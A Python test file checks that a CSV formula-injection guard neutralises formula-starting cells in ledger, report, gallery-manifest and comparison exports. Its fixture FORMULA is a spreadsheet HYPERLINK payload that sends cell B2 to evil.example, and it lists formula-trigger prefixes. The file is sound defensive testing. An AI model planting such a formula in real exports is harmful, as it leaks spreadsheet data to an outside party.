"""CSV formula injection: one guard (lib/core/csvsafe.py) for every export, and each export uses it.

Every export gets the same hostile row: a model id (free text for the open-model providers)
that is a live spreadsheet formula, with prompts, styles, qualities and request ids that start
like formulas too. No text cell of any export may then start a formula.
"""

from __future__ import annotations

import argparse
import csv
import io
import zipfile
from collections.abc import Iterator
from datetime import datetime

import duckdb
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as s

from lib.compare import export, store
from lib.compare import grid as cmp
from lib.core import config, csvsafe
from lib.core.clock import FakeClock
from lib.engine import Engine
from lib.gallery import downloads as gallery_zip
from lib.reporting import report
from tests.builders import ADMIN, ALICE, NOV, add_job
from tests.builders import add_image as add

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"Open")'
STARTS = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", " \t+1", "＝1",
          "＋1", "－1", "＠x"]
SAFE = ["a fox", "1-2", "x=1", "", " a", "e-mail@example", "'=already quoted"]


@pytest.mark.parametrize("text", STARTS)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe(text: str) -> None:
    assert csvsafe.risky(text) and csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_other_text_numbers_and_dates_are_kept_as_they_are(text: str) -> None:
    assert csvsafe.cell(text) == text
    for value in (-1, -0.5, datetime(2026, 1, 1)):
        assert csvsafe.cell(value) == value
    assert csvsafe.cell(None) == ""


_con = duckdb.connect()


@given(text=s.text(s.characters(exclude_categories=("Cs",), exclude_characters="\x00"),
                   max_size=20) | s.sampled_from(STARTS + SAFE))
def test_the_sql_guard_of_the_ledger_export_follows_the_same_rule(text: str) -> None:
    got = _con.execute(f"SELECT {csvsafe.sql('v')} FROM (SELECT ?::VARCHAR AS v)",
                       [text]).fetchone()
    assert got is not None and got[0] == csvsafe.cell(text)


def test_a_frame_guards_its_text_columns_only() -> None:
    df = pd.DataFrame({"model": [FORMULA, "flash"], "cost": [-1.0, 2.0], "n": [-3, 4]})
    out = csvsafe.frame(df)
    assert list(out["model"]) == ["'" + FORMULA, "flash"]
    assert list(out["cost"]) == [-1.0, 2.0] and list(out["n"]) == [-3, 4]
    assert list(df["model"]) == [FORMULA, "flash"]  # the input is not changed


def _no_live_formula(rows: list[list[str]]) -> None:
    """No cell of a CSV (header included) starts a formula; numbers may be negative."""
    for row in rows:
        for value in row:
            if csvsafe.risky(value):
                try:
                    float(value)
                except ValueError:
                    pytest.fail(f"live formula in an export: {value!r}")


@pytest.fixture
def engine() -> Iterator[Engine]:
    eng = Engine(config.load(), clock=FakeClock(datetime(2026, 11, 20, 12)))
    yield eng
    eng.close()


def test_the_ledger_csv_guards_every_text_column(engine: Engine) -> None:
    add_job(engine.db, "j1", "alice", provider="replicate", model=FORMULA, prompt="-a fox",
            quality="+high")
    with engine.db.write() as cur:
        cur.execute("UPDATE jobs SET style = '@style', aspect_ratio = '=1:1', width = NULL, "
                    "request_id = '=req'")
        cur.execute("UPDATE images SET request_id = '=req'")
    add_job(engine.db, "j2", "alice", provider="replicate", model=FORMULA, status="failed",
            cost=None, images=0)
    with engine.db.write() as cur:
        cur.execute("UPDATE jobs SET width = NULL, aspect_ratio = '=1:1' WHERE id = 'j2'")
    buf = io.BytesIO()
    assert report.export(engine.db, ADMIN, NOV, "csv", buf) == 2
    lines = list(csv.reader(io.StringIO(buf.getvalue().decode())))
    _no_live_formula(lines)
    rows = [dict(zip(lines[0], line, strict=True)) for line in lines[1:]]
    assert {r["model"] for r in rows} == {"'" + FORMULA}
    assert {(r["prompt"], r["quality"], r["style"], r["request_id"]) for r in rows
            if r["job_id"] == "j1"} == {("'-a fox", "'+high", "'@style", "'=req")}
    assert {r["size"] for r in rows if r["job_id"] == "j2"} == {"'=1:1"}


def test_the_report_csv_of_the_cli_guards_model_ids(engine: Engine) -> None:
    add_job(engine.db, "j1", "alice", provider="replicate", model=FORMULA)
    args = argparse.Namespace(start=NOV.start, end=NOV.end, by="model", fmt="csv", out=None,
                              users=[], providers=[], models=[], statuses=[],
                              include_demo=True)
    out = io.StringIO()
    assert report.run(engine, args, out, io.StringIO()) == 0
    lines = list(csv.reader(io.StringIO(out.getvalue())))
    _no_live_formula(lines)
    assert [dict(zip(lines[0], line, strict=True))["model"] for line in lines[1:]] == [
        "'" + FORMULA]


def test_the_gallery_zip_manifest_guards_model_ids(engine: Engine) -> None:
    add(engine, "z1", "alice", provider="replicate", model=FORMULA, prompt="+a fox",
        style="-moody")
    zf = zipfile.ZipFile(io.BytesIO(gallery_zip.zip_images(engine.db, engine.storage, ALICE,
                                                           ["z1"])))
    lines = list(csv.reader(io.StringIO(zf.read("manifest.csv").decode("utf-8-sig"))))
    _no_live_formula(lines)
    row = dict(zip(lines[0], lines[1], strict=True))
    assert (row["model"], row["prompt"], row["style"]) == ("'" + FORMULA, "'+a fox", "'-moody")


def test_the_comparison_csv_guards_model_ids(engine: Engine) -> None:
    viewer = ALICE
    grid = cmp.Grid(rows=("a fox",), seed=9, columns=cmp.columns_from_axes(
        [cmp.Axis("model", (f"replicate/{FORMULA}",))]))
    cid = store.start(engine, viewer, grid, "=title")
    comp = store.get(engine, viewer, cid)
    assert comp is not None
    text = export.grid_csv(comp, store.cell_states(engine, viewer, comp), {})
    lines = list(csv.reader(io.StringIO(text)))
    _no_live_formula(lines)
    row = dict(zip(lines[0], lines[1], strict=True))
    assert row["model"] == "'" + FORMULA
